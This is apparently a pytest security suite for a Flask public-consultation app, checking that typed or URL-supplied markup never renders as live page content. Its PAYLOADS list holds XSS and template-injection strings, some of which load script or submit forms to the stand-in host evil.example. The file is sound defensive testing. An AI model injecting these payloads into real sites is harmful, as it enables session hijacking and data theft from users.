"""Markup typed into any field, and into addresses, is shown as it was typed and never becomes part of a page.

Innocent words are played through the same city first: a page of the hostile one may have no element, attribute or
address of another kind.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator, Sequence
from urllib.parse import quote, urlsplit
from xml.etree import ElementTree

import pytest
from flask import Flask

from accounts import services
from accounts.models import Department
from consult.rules.imports import ImportMap, TextColumn
from consult.services import moderation
from consult.services.imports import import_submissions
from core import audit
from core.db import write
from core.feeds import ATOM
from core.localized import Localized
from followup.services import replies
from tests.accounts.browsers import Browser
from tests.city import CODE, answer, draft_answer, found_city, open_round, register_id, staff, submit_comment
from tests.consult.resident import Resident
from tests.security.walk import Markup, chief

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    '" onmouseover="alert(1)',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</bdi></p></main><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=code>",
    "<object data=//evil.example/></object><embed src=//evil.example/>",
    "<math><mtext><xss xlink:href=javascript:alert(1)>x</xss></mtext></math>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[click](javascript:alert(1)) <javascript:alert(1)> [x](data:text/html,<script>alert(1)</script>)",
    "![x](https://evil.example/x.png) [y]: javascript:alert(1)",
    "[z](vbscript:x 'on\" onclick=alert(1) x=\"')",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} %(name)s %s {0}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e <\u200bscript>alert(1)</script> +ADw-script+AD4-",
    "<a href='jav\tascript:alert(1)' style='x' onclick=alert(1)>x</a><xss data-evil=1 id=evil class=evil>",
)
INNOCENT = tuple(f"Innocent words, number {number}" for number in range(len(PAYLOADS)))

FROM_MARKDOWN = {
    *((tag, "") for tag in ("em", "strong", "a", "code", "blockquote", "ul", "li", "p", "br")),
    ("a", "href"),
    ("a", "rel"),
}
"""What Markdown may make where an officer writes it: plain text structure and links (checked by address below)."""


def play(texts: Sequence[str]) -> None:
    """A city in which ``texts`` stand wherever somebody can type."""
    found_city()
    everything_at_once = " ".join(texts[:6])[:200]
    with write() as session:
        session.add(Department(key="hostile", name=Localized.of({"en": everything_at_once[:100]}, "en")))
    measures = "\n\n".join(
        f"### {number}. {text[:120]}\n\n{text}\n\n- Responsible: {text[:80]}"
        for number, text in enumerate(texts, start=1)
    )
    markdown = f"# {everything_at_once}\n\n{texts[0]}\n\n## {texts[2]}\n\n{measures}\n"
    open_round(markdown=markdown, title=Localized.original("en", everything_at_once))
    for number, text in enumerate(texts, start=1):
        submit_comment(text, str(number), proposed_wording=text, name=text[:100], publish_name=True)
    every = list(range(1, len(texts) + 1))
    moderation.release_texts(CODE, every, staff("moderator"))
    for number in every[-8:]:
        moderation.hide_text(CODE, number, texts[number - 1], staff("moderator"))
    for number in every[:-3]:
        answer(
            [number], outcome="accepted", reason=texts[number - 1], change=texts[number - 1], release=False
        )
    replies.publish_replies(register_id(), staff("approver"))
    draft_answer(every[-3:], reason=texts[1])
    file = io.StringIO()
    writer = csv.writer(file)
    writer.writerow(["id", "good"])
    writer.writerows([str(number), text] for number, text in enumerate(texts))
    mapping = ImportMap(columns=[TextColumn("good", "1")], row_key="id", language="en", publish=True)
    import_submissions(CODE, file.getvalue().encode(), mapping, audit.SYSTEM)
    services.create_account(
        email="hostile@lindhafen.example",
        name=texts[2][:80],
        roles=["officer"],
        password="a long password, this",
    )


SOME = (1, 17, 23, 25)
"""One number of each kind: answered, answered and hidden, hidden with an answer in work."""
ALL = tuple(range(1, len(PAYLOADS) + 1))


def read_all(app: Flask, numbers: Sequence[int] = ALL) -> Iterator[tuple[str, str]]:
    """Every page on which something that was typed can stand; of comments and measures those with ``numbers``."""
    resident, desk = Browser(app), chief(app)
    base = f"/en/rounds/{CODE}"
    public = [
        "/en/",
        "/en/rounds/",
        f"{base}/",
        f"{base}/whole-draft/",
        f"{base}/register/",
        f"{base}/register/?after=25",
    ]
    public += [
        f"{base}/register/check/",
        "/en/ledger/",
        f"/en/ledger/?round={CODE}",
        f"/ar/rounds/{CODE}/register/",
    ]
    for number in numbers:
        public += [f"{base}/measures/{number}/", f"{base}/register/{number}/"]
    public += [f"{base}/register/{len(PAYLOADS) + number}/" for number in numbers[::6]]
    office = [
        "/office/",
        "/office/rounds/",
        "/office/accounts",
        "/office/accounts/6",
        "/office/accounts/invite",
    ]
    for part in (
        "/",
        "/?queue=answered",
        "/?queue=to_check",
        "/set-up",
        "/describe",
        "/retime",
        "/conclude",
        "/texts/",
    ):
        office.append(desk.round + part)
    office += [
        desk.round + part for part in ("/texts/?list=hidden", "/texts/?list=public", "/publish-replies")
    ]
    office += [
        desk.round + part
        for part in ("/import-draft", "/import-translation", "/answer?pick=24", "/pass-on?pick=24")
    ]
    for number in numbers[::2] if len(numbers) > len(SOME) else numbers:
        office += [f"{desk.round}/items/{number}/", f"{desk.round}/texts/{number}/"]
        office.append(f"{desk.round}/replies/{number}/")
    for path in public:
        yield path, resident.get(path).text
    for path in office:
        response = desk.browser.get(path)
        assert response.status_code in (200, 404), (path, response.status_code)
        yield path, response.text


TYPED = ("kind", "text", "proposed_wording", "language", "author_kind", "name", "contact")


def refusals(app: Flask, texts: Sequence[str]) -> Iterator[tuple[str, str]]:
    """Forms that come back with what was typed, in every field."""
    resident = Resident(app)
    form = resident.form("1")
    for text in texts:
        comment = resident.send({**form, **dict.fromkeys(TYPED, text)})
        code = resident.read(text)
        assert (comment.status_code, code.status_code) == (422, 422), text
        yield f"comment: {text}", comment.text
        yield f"code: {text}", code.text


def assert_ours(path: str, page: Markup, shapes: set[tuple[str, str]]) -> None:
    assert page.inline == [], path
    assert page.shapes <= shapes, (path, page.shapes - shapes)
    for address in page.addresses:
        place = urlsplit(address)
        assert place.scheme in ("", "http", "https", "mailto", "tel", "data"), (path, address)
        assert place.scheme != "data" or address.startswith("data:image/"), (path, address)
        assert place.netloc != "evil.example" or address == "https://evil.example/x.png", (path, address)


@pytest.fixture
def ours(sqlite_app: Flask, build: object) -> set[tuple[str, str]]:
    """The kinds of elements and attributes on all pages when everybody types innocent words."""
    play(INNOCENT)
    pages = [*read_all(sqlite_app, SOME), *refusals(sqlite_app, ["innocent"])]
    return {shape for _path, page in pages for shape in Markup(page).shapes} | FROM_MARKDOWN


@pytest.fixture
def hostile(ours: set[tuple[str, str]], build: object, city: object) -> set[tuple[str, str]]:
    """The same city, played with hostile words; gives what its pages may be made of."""
    _app, empty = build("sqlite")  # type: ignore[operator]
    empty()
    play(PAYLOADS)
    return ours


@pytest.mark.slow
def test_nothing_that_is_typed_becomes_part_of_a_page(
    sqlite_app: Flask, hostile: set[tuple[str, str]]
) -> None:
    shown = ""
    for path, page in read_all(sqlite_app):
        assert_ours(path, Markup(page), hostile)
        shown += page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown
    assert "{{ 7 * 7 }}" in shown
    for path, page in refusals(sqlite_app, PAYLOADS):
        assert_ours(path, Markup(page), hostile)
    _files(sqlite_app)


def _files(app: Flask) -> None:
    """Feeds, JSON and tables of the same city."""
    browser = Browser(app)
    for path in (f"/rounds/{CODE}/register.atom", "/ledger.atom"):
        response = browser.get(path)
        feed = ElementTree.fromstring(response.data)
        assert {element.tag.removeprefix(f"{{{ATOM}}}") for element in feed.iter()} <= {
            "feed", "id", "title", "updated", "author", "name", "link", "entry", "content"
        }  # fmt: skip
        for element in feed.iter(f"{{{ATOM}}}content"):
            assert element.get("type") == "text"
        for element in feed.iter(f"{{{ATOM}}}link"):
            assert (element.get("href") or "").startswith("http://answerable.test/")
    for path in (
        f"/rounds/{CODE}/register.json",
        f"/rounds/{CODE}/chain.json",
        "/ledger.json",
        "/rounds.json",
    ):
        response = browser.get(path, buffered=True)
        assert response.mimetype == "application/json"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        json.loads(response.data)
    for path in (f"/rounds/{CODE}/register.csv", "/ledger.csv", "/ledger/overdue.csv"):
        response = browser.get(path, buffered=True)
        assert response.mimetype == "text/csv"
        assert response.headers["Content-Disposition"].startswith("attachment")
        rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
        assert len({len(row) for row in rows}) == 1


REFLECTED = (
    f"/en/rounds/{CODE}/register/?word={{0}}&outcome={{0}}&measure={{0}}&author={{0}}&language={{0}}&channel={{0}}",
    f"/en/rounds/{CODE}/register/?after={{0}}&before={{0}}&{{0}}={{0}}",
    f"/en/rounds/{CODE}/register/check/?hash={{0}}",
    "/de/ledger/?round={0}&after={0}",
    "/en/rounds/{0}/",
    "/{0}/",
    f"/en/rounds/{CODE}/measures/{{0}}/",
    f"/office/rounds/{CODE}/?queue={{0}}&measure={{0}}&language={{0}}&department={{0}}&q={{0}}&after={{0}}",
    f"/office/rounds/{CODE}/texts/?list={{0}}&after={{0}}",
    f"/office/rounds/{CODE}/answer?pick=1&back={{0}}&q={{0}}",
    "/office/rounds/{0}/set-up",
    "/office/sign-in?next={0}&email={0}",
    "/office/invitation/{0}",
    "/office/reset/{0}",
)


@pytest.mark.parametrize("place", REFLECTED)
def test_nothing_in_an_address_becomes_part_of_a_page(busy: Flask, place: str) -> None:
    desk, resident = chief(busy), Browser(busy)
    browser = desk.browser if place.startswith("/office/rounds") else resident
    innocent = browser.get(place.format("innocent")).text + browser.get(place.format("1")).text
    # A search without results offers ways on that a page without a search has not.
    known = {
        shape
        for path in (place.format("innocent"), f"/office/rounds/{CODE}/", f"/en/rounds/{CODE}/register/")
        for shape in Markup(desk.browser.get(path).text).shapes
    } | Markup(innocent).shapes
    for payload in PAYLOADS:
        response = browser.get(place.format(quote(payload, safe="")))
        assert response.status_code < 500, payload
        page = Markup(response.text)
        assert page.inline == [], payload
        assert page.shapes <= known, (payload, page.shapes - known)
        for address in page.addresses:
            assert urlsplit(address).scheme in ("", "http", "https", "mailto", "data"), (payload, address)
            assert urlsplit(address).netloc in ("", "answerable.test") or "evil" not in address, (
                payload,
                address,
            )
